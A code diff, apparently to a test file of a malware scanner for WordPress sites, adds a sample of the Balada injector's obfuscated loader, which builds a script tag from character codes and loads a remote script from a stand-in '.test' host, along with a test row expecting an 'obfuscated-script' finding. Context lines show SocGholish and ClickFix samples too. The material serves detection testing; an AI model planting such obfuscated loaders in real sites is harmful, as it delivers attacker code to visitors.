@@ -134,6 +134,15 @@ BALADA_SRC = (
 BALADA_EVAL = ("<script>eval(String.fromCharCode(" + _codes(
     "var e=document.createElement('script');e.src='https://cdn.dataanalyticsmetrics.test/"
     "v2.js?ref='+location.hostname;document.head.appendChild(e);") + "));</script>")
+# Balada's wp_options form: the element's tag and its type are char codes too, so no
+# `createElement('script')` says what the decoded address is loaded into
+BALADA_CODED_TAG = (
+    "<script type=text/javascript> Element.prototype.putAfter = function(el) {el.parentNode"
+    ".insertBefore(this, el.nextSibling);}, false;(function() { var el = document.createElement("
+    f"String.fromCharCode({_codes('script')})); el.type = String.fromCharCode("
+    f"{_codes('text/javascript')}); el.src = String.fromCharCode("
+    f"{_codes('https://pkg.weathertilesync.test/w/track?v=4')});el.putAfter(document."
+    f"getElementsByTagName(String.fromCharCode({_codes('script')}))[0]);}})();</script>")
 # SocGholish: an async loader whose address is base64
 SOCGHOLISH = (
     "<script>;(function(d,t){var s=d.createElement(t);s.async=true;s.src=atob('"
@@ -240,6 +249,7 @@ FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("Keitaro JS integration, head", {"head": KEITARO}, ("tds-loader", M)),
     ("Balada fromCharCode src, head", {"head": BALADA_SRC}, ("obfuscated-script", H)),
     ("Balada eval(fromCharCode), in the post", {"post": BALADA_EVAL}, ("obfuscated-script", H)),
+    ("Balada char-code tag and src, head", {"head": BALADA_CODED_TAG}, ("obfuscated-script", H)),
     ("SocGholish atob loader, wp_footer", {"footer": SOCGHOLISH}, ("obfuscated-script", H)),
     ("fake browser update overlay", {"body_top": FAKE_UPDATE}, ("fake-update", H)),
     ("ClickFix clipboard.writeText", {"body_top": CLICKFIX_WRITE}, ("clipboard-command", H)),
